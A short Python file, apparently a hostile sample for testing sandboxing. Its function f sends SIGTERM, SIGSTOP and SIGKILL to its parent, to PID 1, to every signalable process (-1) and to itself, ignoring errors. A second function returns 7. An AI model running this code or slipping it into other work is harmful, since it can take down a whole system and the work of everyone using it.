"""Sends every signal to its parent, to PID 1 and to everybody, then to itself."""

import os
import signal


def f():
    for target in (os.getppid(), 1, -1, os.getpid()):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                continue


def g():
    return 7
